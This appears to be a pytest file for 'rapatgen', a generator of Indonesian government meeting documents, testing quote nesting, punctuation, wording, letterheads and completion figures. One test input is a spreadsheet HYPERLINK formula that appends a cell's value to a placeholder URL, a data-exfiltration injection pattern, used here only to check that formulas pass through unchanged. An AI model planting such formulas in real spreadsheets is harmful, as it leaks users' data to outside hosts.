"""Issue 19 items 6 and 7: quotation marks and the small wording slips a signing official sends back,
read from the produced DOCX and PDF."""

from __future__ import annotations

import re

import pytest
from click.testing import CliRunner

from rapatgen.cli import main
from tests.conftest import replace_in
from tests.readback import docx_text, pdf_text
from tests.test_fields_used import _build

RAKOR = "agendas/2023-12-14-rakor-tkpk-buleleng.yaml"
OUT = "outputs/rakor-buleleng-2023-12-14"




def _texts(project, kind: str) -> list[str]:
    """The DOCX and PDF text of every file of one kind, whitespace folded."""
    out = []
    for path in sorted((project / OUT).glob(f"{kind}-*")):
        if path.suffix in (".docx", ".pdf"):
            text = docx_text(path) if path.suffix == ".docx" else pdf_text(path)
            out.append(" ".join(text.split()))
    assert out, kind
    return out


# --- item 6: nested quotes ----------------------------------------------------------------
def test_quotes_nest_outer_double_inner_single():
    from rapatgen.text.quotes import typographic

    assert typographic('dengan tema "Percepatan "Program Bali Mandara" Tahun 2024"') == \
        "dengan tema “Percepatan ‘Program Bali Mandara’ Tahun 2024”"
    assert typographic("tema “Percepatan “Program X” 2024”") == "tema “Percepatan ‘Program X’ 2024”"
    assert typographic("Jum’at \"pagi\"") == "Jum’at “pagi”"
    assert typographic('=HYPERLINK("http://x/?d="&A1,"klik")') == '=HYPERLINK("http://x/?d="&A1,"klik")'
    assert typographic('tinggi 12" saja') == 'tinggi 12" saja'


def test_a_theme_quoting_a_programme_prints_the_same_nested_quotes_in_undangan_and_notulen(project):
    """The theme "Percepatan "Program Bali Mandara" 2024" came out “… ”Program …“ …” in the invitation
    (reversed) and with straight quotes in the notulen."""
    replace_in(project / RAKOR, "tema: Arah Kebijakan dan Strategi Penanggulangan Kemiskinan Kabupaten Buleleng Tahun 2024",
               "tema: 'Percepatan \"Program Bali Mandara\" Tahun 2024'")
    replace_in(project / RAKOR, "    - Peserta dimohon membawa data program/kegiatan penanggulangan kemiskinan Tahun 2024.",
               "    - 'Peserta membawa isian \"Format \"RAT\" 2024\".'")
    _build(project, "undangan", "notulen")
    invitation = _texts(project, "undangan-rakor-buleleng-2023-12-14-01")
    notulen = _texts(project, "notulen")
    for text in invitation:
        assert "dengan tema “Percepatan ‘Program Bali Mandara’ Tahun 2024”" in text, text[:600]
        assert "membawa isian “Format ‘RAT’ 2024”." in text
    for text in notulen:
        assert "Tema : Percepatan “Program Bali Mandara” Tahun 2024" in text.replace(" :", " :"), text[:600]
    for text in invitation + notulen:
        assert '"' not in text


# --- item 7: wording ------------------------------------------------------------------------
def test_clause_dots_go_before_a_semicolon_abbreviations_keep_theirs():
    from rapatgen.text.quotes import clause_dots

    assert clause_dots("menyampaikan rekap.; lanjutan") == "menyampaikan rekap; lanjutan"
    assert clause_dots("Sri Rahayu, S.E.; Kepala") == "Sri Rahayu, S.E.; Kepala"
    assert clause_dots("dan dll.; lain") == "dan dll.; lain"


def test_notes_ending_in_a_full_stop_joined_with_semicolons_print_no_dot_semicolon(built_kaltim):
    """Kaltim rakor notulen and the tracker printed 'menyampaikan rekap.; dilanjutkan sebagai …'. Read from
    the shared build of the example (the same command, `build --per 2025-02-15`, whose exit code it checks)."""
    seen = 0
    for path in sorted(built_kaltim.outputs().rglob("*")):
        if path.suffix in (".docx", ".pdf") and not path.name.startswith("berkas-"):
            text = docx_text(path) if path.suffix == ".docx" else pdf_text(path)
            hit = re.search(r".{0,30}[a-z]\.;.{0,10}", text, re.S)
            assert hit is None, f"{path.name}: {hit.group(0) if hit else ''}"
            seen += "menyampaikan rekap;" in " ".join(text.split())
    assert seen >= 2


def test_online_details_are_named_in_indonesian_and_printed_once(kaltim):
    """'Meeting ID' → 'ID Rapat'; the link and access code are in the invitation, not again in the notulen."""
    r = CliRunner().invoke(main, ["build", "rakor-kaltim-2024-12-19", "--per", "2025-02-15", "--proyek", str(kaltim),
                                  "--only", "undangan", "--only", "notulen"])
    assert r.exit_code == 0, r.output
    folder = kaltim / "outputs/rakor-kaltim-2024-12-19"
    for suffix in (".docx", ".pdf"):
        read = docx_text if suffix == ".docx" else pdf_text
        letter = " ".join(read(folder / f"undangan-rakor-kaltim-2024-12-19{suffix}").split())
        notulen = " ".join(read(folder / f"notulen-rakor-kaltim-2024-12-19{suffix}").split())
        assert "Meeting ID" not in letter + notulen
        assert "ID Rapat : 000 0000 0000" in letter and letter.count("contoh24") == 1
        assert "contoh24" not in notulen and "000 0000 0000" not in notulen
        assert "secara daring melalui Zoom Meeting" in notulen


def test_a_count_is_sebanyak_a_measure_sebesar(project):
    """'… sebesar 5 kecamatan' for a count."""
    replace_in(project / RAKOR, "  - nama: KK miskin ekstrem hasil verifikasi\n    satuan: KK",
               "  - nama: Kecamatan dengan desa lokus kemiskinan ekstrem\n    satuan: kecamatan")
    _build(project, "notulen")
    for text in _texts(project, "notulen"):
        assert "sebanyak 349 kecamatan" in text and "sebesar 349" not in text
        assert "sebesar 5,85%" in text


def test_a_single_tembusan_is_not_numbered(project):
    replace_in(project / RAKOR, "    - Bupati Buleleng (sebagai laporan)\n    - Sekretaris Daerah Kabupaten Buleleng\n",
               "    - Bupati Buleleng (sebagai laporan)\n")
    _build(project, "undangan")
    for text in _texts(project, "undangan-rakor-buleleng-2023-12-14-01"):
        assert "Tembusan: Bupati Buleleng (sebagai laporan)." in text, text[-300:]
        assert "1. Bupati Buleleng" not in text


def test_a_numbered_list_after_a_markdown_table_goes_on_counting(project):
    replace_in(project / RAKOR, "      | KK miskin ekstrem (hasil verifikasi) | – | 349 KK | 0 |\n",
               "      | KK miskin ekstrem (hasil verifikasi) | – | 349 KK | 0 |\n\n"
               "      3. Butir ketiga sesudah tabel.\n      4. Butir keempat.\n")
    replace_in(project / RAKOR, "      Kepala Bappeda dan Kepala Dinas Sosial memaparkan kondisi kemiskinan; peserta\n"
               "      mendiskusikan keterpaduan sasaran program.\n",
               "      1. Kepala Bappeda memaparkan kondisi kemiskinan.\n      2. Peserta berdiskusi.\n")
    _build(project, "notulen")
    for text in _texts(project, "notulen"):
        assert re.search(r"3\.\s*Butir ketiga sesudah tabel\.\s*4\.\s*Butir keempat\.", text), text
        assert not re.search(r"1\.\s*Butir ketiga", text)


def test_programme_title_that_names_the_kind_is_not_followed_by_it(project):
    """Jadwal: 'Rapat Koordinasi … Tahun 2023' then again 'Rapat Koordinasi' under it."""
    r = CliRunner().invoke(main, ["build", "--per", "2024-01-15", "--proyek", str(project)])
    assert r.exit_code == 0, r.output
    for path in (project / "outputs/jadwal-rapat-2023.docx", project / "outputs/jadwal-rapat-2023.pdf"):
        text = docx_text(path) if path.suffix == ".docx" else pdf_text(path)
        flat = " ".join(text.split())
        assert "Kabupaten Buleleng Tahun 2023 Rapat Koordinasi" not in flat
        assert "Tahun 2023 Pra Rapat Koordinasi" not in flat
        assert not re.search(r"Pra Rapat Koordinasi Penanggulangan Kemiskinan Tahun 2023\s+Pra Rapat", text)
        assert "Focus Group Discussion" not in flat  # "FGD Penyusunan …" names it


def test_rencana_aksi_title_names_the_region(project):
    _build(project, "rencana-aksi")
    for text in _texts(project, "rencana-aksi"):
        assert "MATRIKS RENCANA AKSI TAHUNAN PENANGGULANGAN KEMISKINAN KABUPATEN BULELENG TAHUN 2024" in text


# --- the text rules on every produced file of both examples ------------------------------------
@pytest.mark.slow
@pytest.mark.parametrize("which", ["built_buleleng", "built_kaltim"])
def test_every_example_file_passes_the_wording_rules(which, request):
    from tests.wording import check_text

    built = request.getfixturevalue(which)
    problems = [p for path, text in built.texts.items() for p in check_text(path.name, text)]
    assert len(built.texts) > 20
    assert not problems, "\n".join(problems)


def test_the_wording_rules_catch_what_the_old_output_printed():
    """Each rule on a line the old output printed (issue 19's evidence)."""
    from tests.wording import check_text

    assert any("19.6" in p for p in check_text("u", "dengan tema “Percepatan ”Program X“ 2024”"))
    assert any("19.6" in p for p in check_text("n", 'Tema : Percepatan "Program X" 2024'))
    assert any("19.6" in p for p in check_text("n", "tema “Percepatan “Program X” 2024”"))
    assert any("19.7" in p for p in check_text("t", "kabupaten/kota menyampaikan rekap.; dilanjutkan"))
    assert any("19.7" in p for p in check_text("u", "Meeting ID : 000 0000 0000"))
    assert any("19.7" in p for p in check_text("n", "pada 2024 sebesar 5 kecamatan."))
    assert check_text("ok", "tema “Percepatan ‘Program X’ 2024”, Jum’at; S.E.; sebesar 5,85%.") == []
    # file names and project folders the periodic reports printed as sources (issue 19 item 7)
    for line in ("Sumber: realisasi/2024.yaml. Jumlah", "BPS (Susenas Maret) indikator.yaml; agendas/2023-12-14-rakor.yaml",
                 "Sumber: rekap/kabupaten-berau.json; rekap/kota-samarinda.json.",
                 "Program rapat tahun 2024 belum ditulis (program/2024.yaml)", "Tidak ada berkas rapat tahun 2024 di agendas/.",
                 "Matriks tindak lanjut (outputs/matriks-tindak-lanjut.xlsx)", "data.csv", "lokus/2024.yml"):
        assert any("19.7" in p for p in check_text("l", line)), line
    assert check_text("ok", "data program/kegiatan kab/kota desa/kelurahan Bapak/Ibu 400.9.14/57/Bappeda "
                            "https://zoom.us/j/0000 bappeda@contoh.go.id laman bappeda.bulelengkab.go.id/laporan") == []


# --- item 11: one completion figure ---------------------------------------------------------
@pytest.mark.slow
@pytest.mark.parametrize("which", ["built_buleleng", "built_kaltim"])
def test_one_completion_figure_per_penanggung_jawab_in_dashboard_xlsx_and_matriks(which, request):
    """Dashboard "1 dari 6 selesai (17%)" against the matriks' "20,0%" for Dinsos Kaltim; the group item
    of ten kab/kota counted as one row of the group in the matriks, one per member in the dashboard."""
    from rapatgen.check.project import load_project
    from tests.wording import check_completion

    built = request.getfixturevalue(which)
    directory = load_project(built.root).directory
    problems = check_completion(directory, built.outputs("index.html").read_text(encoding="utf-8"),
                                built.outputs("matriks-tindak-lanjut.xlsx"), built.outputs("matriks-tindak-lanjut.docx"))
    assert not problems, "\n".join(problems)


def test_dinsos_kaltim_reads_the_same_everywhere_and_kab_kota_have_their_own_heading(built_kaltim):
    html = built_kaltim.outputs("index.html").read_text(encoding="utf-8")
    bar = re.search(r'data-opd="dinsos_kaltim">.*?</div>', html).group(0)
    assert "1 dari 5 selesai (20,0%)" in bar and "1 dilanjutkan" in bar, bar
    for path in (built_kaltim.outputs("matriks-tindak-lanjut.docx"), built_kaltim.outputs("matriks-tindak-lanjut.pdf")):
        text = " ".join((docx_text(path) if path.suffix == ".docx" else pdf_text(path)).split())
        assert "Ringkasan per penanggung jawab" in text and "Ringkasan per perangkat daerah" not in text
        summary = text[text.index("Ringkasan per penanggung jawab"):text.index("% Selesai =")]
        assert "Pemerintah Kabupaten/Kota Pemerintah Kabupaten Berau" in summary
        assert summary.index("Perangkat Daerah") < summary.index("Dinas Sosial") < \
            summary.index("Pemerintah Kabupaten/Kota") < summary.index("Pemerintah Kota Samarinda")
        assert "se-Kalimantan Timur" not in summary


def test_followup_list_prints_the_same_completion(built_kaltim, tmp_path):
    from tests.conftest import built_copy

    root = built_copy(built_kaltim, tmp_path / "k")
    r = CliRunner().invoke(main, ["followup", "list", "--per", "2025-02-15", "--pj", "dinsos_kaltim", "--proyek", str(root)])
    assert r.exit_code == 0, r.output
    assert "1 dari 5 selesai (20,0%)" in r.output
    r = CliRunner().invoke(main, ["followup", "list", "--per", "2025-02-15", "--pj", "dinsos_kaltim", "--json",
                                  "--proyek", str(root)])
    assert '"teks": "1 dari 5 selesai (20,0%)"' in r.output


# --- item 8: letterhead, lampiran header, signature casing ---------------------------------------
def _example_docs_with_a_request():
    from datetime import date

    from rapatgen.check.project import load_project
    from rapatgen.distribute.requests import compose_request
    from rapatgen.resolve.context import Context
    from rapatgen.resolve.followups import collect
    from tests.conftest import ROOT
    from tests.layout import example_documents, example_reports

    docs = list(example_documents(ROOT)) + [(name, doc) for name, doc, _ in example_reports(ROOT)]
    project = load_project(ROOT)
    ctx = Context(project.config, project.directory, project.root, date(2025, 2, 15), [mf.model for mf in project.meetings])
    items = [f for f in collect(ctx.meetings, date(2025, 2, 15), project.directory) if f.pj == "dinsos_bll"]
    docs.append(("surat-permintaan-dinsos_bll.pdf", compose_request(ctx, "dinsos_bll", items, date(2025, 2, 15),
                                                                     date(2025, 2, 15), date(2025, 3, 1), None, "f.xlsx")))
    return docs


@pytest.mark.slow
def test_every_example_follows_the_letterhead_and_casing_rules():
    from tests.wording import check_letterhead_signer, check_signature_casing

    docs = _example_docs_with_a_request()
    problems = check_signature_casing(docs) + [p for name, doc in docs for p in check_letterhead_signer(name, doc)]
    assert not problems, "\n".join(problems)
    kinds = {doc.kind for _, doc in docs}
    assert {"undangan", "permintaan", "notulen", "berita-acara", "lp2kd", "ppke-pengantar"} <= kinds


def test_the_letterhead_rules_catch_a_bappeda_signature_on_the_setda_kop():
    from rapatgen.model.blocks import Document, Letterhead, PageSetup, Section, SignatureBlock, Signatures
    from tests.wording import check_letterhead_signer, check_signature_casing

    page = PageSetup(210, 297, (2, 2, 2, 3), "Arial", 12, 1.15)
    setda = Letterhead(["PEMERINTAH PROVINSI KALIMANTAN TIMUR", "SEKRETARIAT DAERAH"], [], None)
    bappeda = SignatureBlock(["Samarinda, 1 Januari 2025", "KEPALA BADAN PERENCANAAN PEMBANGUNAN DAERAH,"], "Nama")
    doc = Document("undangan", "u", [Section([setda, Signatures([bappeda])])], page)
    assert check_letterhead_signer("u", doc)
    on_behalf = SignatureBlock(["a.n. GUBERNUR KALIMANTAN TIMUR", "SEKRETARIS DAERAH PROVINSI KALIMANTAN TIMUR,"], "N")
    assert not check_letterhead_signer("u", Document("undangan", "u", [Section([setda, Signatures([on_behalf])])], page))
    title_case = SignatureBlock(["Singaraja, 1 Januari 2025", "Kepala Badan Perencanaan Pembangunan Daerah,"], "N")
    assert check_signature_casing([("p", Document("permintaan", "p", [Section([Signatures([title_case])])], page))])


def test_lampiran_header_names_the_principal_spelled_out(built_kaltim, built_buleleng):
    """'LAMPIRAN I SURAT SEKRETARIS DAERAH …' for a letter signed a.n. Gubernur; 'KEPALA BAPPEDA PROVINSI'
    in one project, 'KEPALA BADAN PERENCANAAN PEMBANGUNAN DAERAH' in the other."""
    wanted = {built_kaltim.outputs("rakor-kaltim-2024-12-19", "undangan-rakor-kaltim-2024-12-19"):
              "LAMPIRAN I SURAT GUBERNUR KALIMANTAN TIMUR NOMOR",
              built_kaltim.outputs("fgd-rpkd-kaltim-2024-09-27", "undangan-fgd-rpkd-kaltim-2024-09-27"):
              "LAMPIRAN I SURAT KEPALA BADAN PERENCANAAN PEMBANGUNAN DAERAH PROVINSI KALIMANTAN TIMUR NOMOR",
              built_buleleng.outputs("rakor-buleleng-2023-12-14", "undangan-rakor-buleleng-2023-12-14-01-dinsos_bll"):
              "LAMPIRAN SURAT BUPATI BULELENG NOMOR"}
    for base, header in wanted.items():
        for suffix in (".pdf", ".docx"):
            path = base.with_suffix(suffix)
            text = " ".join((pdf_text(path) if suffix == ".pdf" else docx_text(path)).split())
            assert header in text.replace(" :", ":").replace("NOMOR:", "NOMOR"), (path.name, text[text.find("LAMPIRAN"):][:120])


def test_check_warns_about_a_bappeda_signature_on_the_setda_kop(kaltim):
    meeting = kaltim / "agendas/2024-12-19-rakor-tkpk-kaltim.yaml"
    replace_in(meeting, "kop: bappeda_kaltim", "kop: setda_kaltim")
    replace_in(meeting, "    orang: sekda_kaltim\n    atas_nama: GUBERNUR KALIMANTAN TIMUR\n", "    orang: kepala_bappeda_kaltim\n")
    r = CliRunner().invoke(main, ["check", "--proyek", str(kaltim)])
    assert r.exit_code == 0, r.output
    warned = [ln for ln in r.output.splitlines() if "kop Sekretariat Daerah ('setda_kaltim')" in ln]
    assert len(warned) == 3, r.output  # undangan, rencana aksi, matriks tindak lanjut
    assert all("2024-12-19-rakor-tkpk-kaltim.yaml:" in ln and "tanpa a.n." in ln for ln in warned)
    assert any(": undangan memakai" in ln and "atas_nama" in ln for ln in warned), warned


def test_a_tkpkd_project_names_its_meetings_with_its_own_team(kaltim):
    """'Rakor TKPK 19 Desember 2024' in a project whose team is the TKPKD."""
    replace_in(kaltim / "rapatgen.yaml", "singkatan: TKPK Provinsi Kalimantan Timur", "singkatan: TKPKD Provinsi Kalimantan Timur")
    r = CliRunner().invoke(main, ["build", "--per", "2025-02-15", "--proyek", str(kaltim)])
    assert r.exit_code == 0, r.output
    for name in ("matriks-tindak-lanjut.pdf", "matriks-tindak-lanjut.docx",
                 "rakor-kaltim-2024-12-19/notulen-rakor-kaltim-2024-12-19.pdf"):
        path = kaltim / "outputs" / name
        text = " ".join((pdf_text(path) if path.suffix == ".pdf" else docx_text(path)).split())
        assert not re.search(r"(Rakor|Konsolidasi) TKPK \d", text), (name, re.search(r".{40}(Rakor|Konsolidasi) TKPK \d.{20}", text))
        assert "Rakor TKPKD 19 Desember 2024" in text or "Rapat Konsolidasi TKPKD 4 Desember 2024" in text, name
    listed = CliRunner().invoke(main, ["followup", "list", "--per", "2025-02-15", "--json", "--proyek", str(kaltim)])
    assert "TKPKD" in listed.output and not re.search(r"(Rakor|Konsolidasi) TKPK \d", listed.output)
    html = (kaltim / "outputs/index.html").read_text(encoding="utf-8")
    assert "Rakor TKPKD 19 Desember 2024" in html and "Rakor TKPK 19" not in html
